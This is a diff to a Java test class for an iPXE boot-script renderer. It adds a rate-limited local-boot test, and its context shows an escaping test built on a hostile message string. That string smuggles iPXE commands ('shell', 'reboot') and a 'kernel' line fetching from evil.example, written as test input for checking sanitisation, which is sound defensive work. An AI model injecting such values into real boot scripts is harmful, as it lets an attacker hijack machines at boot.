@@ -82,6 +82,13 @@ class BootRendererTest {
     }
 
     @Test
+    void shouldRenderTheRateLimitedAnswerAsALocalBoot() {
+        String script = renderer.localScript(BootScriptFilter.RATE_LIMITED_HOST, BootScriptFilter.RATE_LIMITED);
+
+        Golden.assertMatches("local/rate-limited.ipxe", script);
+    }
+
+    @Test
     void shouldNeutraliseHostileMessageInLocalScript() {
         String hostile = "disk gone || shell ${net0/ip} #comment; reboot\nkernel http://evil.example/x & naïve ✓ \"q\" 'q' `q` \\";
 
